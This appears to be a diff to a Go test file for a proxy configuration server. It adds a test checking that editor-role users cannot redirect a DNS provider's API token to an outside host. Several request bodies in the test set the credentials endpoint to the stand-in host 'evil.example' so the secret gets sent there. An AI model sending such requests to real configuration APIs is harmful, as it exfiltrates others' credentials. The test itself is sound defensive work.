@@ -202,6 +202,33 @@ func TestEditorsCannotMakeThemselvesAdmins(t *testing.T) {
 	h.does("PATCH", "/settings/upstreams", `{"idle_timeout":"80s"}`, 200, "", "as: editor", always)
 }
 
+// TestEditorsCannotHaveCredentialsSentToThem moves a DNS provider's token to an endpoint
+// of somebody's own.
+func TestEditorsCannotHaveCredentialsSentToThem(t *testing.T) {
+	h := start(t)
+	t.Setenv("HEADGATE_TEST_TOKEN", "s3cret-token")
+	h.does("PATCH", "/acme/main", `{"challenge":"dns-01","dns":{"provider":"cloudflare","credentials":{"api_token":"${HEADGATE_TEST_TOKEN}"}}}`, 200, "", "as: admin", always)
+	_, shown := h.does("GET", "/acme/main", "", 200, "", "as: editor")
+	before := h.text()
+	dns := shown["dns"].(map[string]any)["credentials"]
+	t.Logf("credentials are shown as %v", dns)
+	for _, c := range []struct{ method, path, body string }{
+		{"PATCH", "/acme/main", `{"dns":{"credentials":{"endpoint":"https://evil.example"}}}`},
+		{"POST", "/config/edits", `{"edits":[{"op":"set","path":"acme.main.dns.credentials.endpoint","value":"https://evil.example"}]}`},
+		{"POST", "/config/edits", `{"edits":[{"op":"rename","path":"acme.main","to":"evil"},{"op":"set","path":"acme.evil.dns.credentials.endpoint","value":"https://evil.example"}]}`},
+		{"PATCH", "/acme/main", `{"dns":{"provider":"httpreq","credentials":{"api_token":null,"endpoint":"https://evil.example","password":"${HEADGATE_TEST_TOKEN}"}}}`},
+	} {
+		rs, out := h.ask(c.method, c.path, c.body, "as: editor", always)
+		if rs.StatusCode != 403 {
+			t.Errorf("%s %s %s: %d %v", c.method, c.path, c.body, rs.StatusCode, out)
+		}
+	}
+	if h.text() != before {
+		t.Errorf("the document is\n%s", h.text())
+	}
+	h.does("PATCH", "/acme/main", `{"dns":{"credentials":{"api_token":"another","endpoint":"https://dns.example"}}}`, 200, "", "as: editor", always)
+}
+
 func TestAChangeThatWaitsIsTakenBackAtOnce(t *testing.T) {
 	h := start(t)
 	h.does("POST", "/revert", `{}`, 409, "nothing_pending", "as: editor")
